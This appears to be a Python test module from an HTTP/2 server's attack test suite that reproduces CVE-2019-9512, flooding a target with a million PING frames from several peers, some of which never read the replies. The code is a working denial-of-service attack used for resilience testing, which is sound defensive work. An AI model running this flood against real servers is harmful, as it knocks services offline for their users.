"""PING frames, each of which asks for an answer, which is read or not (CVE-2019-9512)."""

from __future__ import annotations

import asyncio
from collections import Counter

from hyperframe.frame import PingFrame

from tests.attack.target import Target
from tests.attack.wire import flood, serialized

PINGS = 1_000_000
PEERS = 4
DEAF = 2  # more, that read no answer
AT_ONCE = 500


async def attack(target: Target) -> Counter[str]:
    pings = serialized(PingFrame(0, b"12345678")) * AT_ONCE
    batches = target.scaled(PINGS) // PEERS // AT_ONCE
    counts = await asyncio.gather(
        flood(target, lambda _ids: pings, batches=batches, peers=PEERS),
        flood(target, lambda _ids: pings, batches=batches, peers=DEAF, deaf=True),
    )
    return sum(counts, Counter())
